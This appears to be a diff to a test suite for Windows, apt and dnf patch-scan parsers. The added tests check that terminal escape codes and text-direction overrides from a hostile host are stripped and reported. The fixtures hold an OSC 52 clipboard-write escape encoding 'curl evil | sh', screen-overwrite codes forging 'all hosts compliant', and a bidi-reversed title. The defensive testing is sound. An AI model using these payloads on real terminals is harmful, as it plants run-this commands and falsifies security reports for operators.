@@ -99,8 +99,14 @@ describe('the Windows parser on a hostile host', () => {
     const scan = parseWindowsScan('evil', win({ os: `Windows ${ESCAPES}`, missing: [update({ Title: `Update\n${ESCAPES}` })] }));
     expect(scan.os).toBe('Windows ]52;c;Y3VybCBldmlsIHwgc2g=[1G[2K[32mall hosts compliant2J');
     expect(scan.patches[0]!.title).toBe('Update ]52;c;Y3VybCBldmlsIHwgc2g=[1G[2K[32mall hosts compliant2J');
-    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes) from the text of the OS name, KB5034441']);
+    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes, text-direction overrides) from the text of the OS name, KB5034441']);
     expectBounded(scan);
+  });
+
+  it('removes text-direction overrides from a title, so it reads as the host wrote it, and warns', () => {
+    const scan = parseWindowsScan('evil', win({ missing: [update({ Title: 'Security Update \u202Edellatsni\u202C for Windows' })] }));
+    expect(scan.patches[0]!.title).toBe('Security Update dellatsni for Windows');
+    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes, text-direction overrides) from the text of KB5034441']);
   });
 });
 
@@ -121,7 +127,7 @@ describe('the apt parser on a hostile host', () => {
     const scan = parseAptScan('evil', apt(`W: ${ESCAPES}\n1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`, os));
     expect(scan.os).toBe('Debian GNU/Linux 12 (bookworm) ]52;c;Y3VybCBldmlsIHwgc2g=[1G[2K[32mall hosts compliant2J');
     expect(scan.patches[0]!.title).toBe('bash 5.2.15[2K31m → 5.2.15-2+b13');
-    expect(scan.warnings).toContain('removed control characters (terminal escape codes) from the text of the OS name, deb:bash@5.2.15-2+b13');
+    expect(scan.warnings).toContain('removed control characters (terminal escape codes, text-direction overrides) from the text of the OS name, deb:bash@5.2.15-2+b13');
     expect(scan.warnings).toContain('removed control characters from warnings that quote the host');
     expectBounded(scan);
   });
@@ -186,7 +192,7 @@ describe('the dnf parser on a hostile host', () => {
     const name = 'gl\u001b[2Kibc\u009b';
     const scan = parseDnfScan('evil', dnf({ updateinfo: `RHSA-2024:3339 Important/Sec. ${name}-2.34-100.el9_4.2.x86_64`, check: `${name}.x86_64  2.34-100.el9_4.2  baseos` }));
     expect(scan.patches.map((p) => p.title)).toEqual(['RHSA-2024:3339: Important security update for gl[2Kibc']);
-    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes) from the text of RHSA-2024:3339']);
+    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes, text-direction overrides) from the text of RHSA-2024:3339']);
     expectBounded(scan);
   });
 });
